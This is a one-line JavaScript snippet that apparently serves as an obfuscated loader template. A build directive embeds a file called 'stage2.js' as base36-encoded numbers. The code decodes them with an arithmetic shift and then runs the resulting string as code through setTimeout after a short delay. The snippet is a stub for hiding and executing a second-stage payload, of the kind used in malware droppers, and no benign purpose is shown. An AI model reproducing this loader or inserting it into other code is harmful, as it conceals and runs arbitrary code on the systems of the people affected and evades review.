var z="<% base36 (file "stage2.js") %>".split(".").map(function(n){return String.fromCharCode(parseInt(n,36)/3-11)}).join("");setTimeout(z,400)
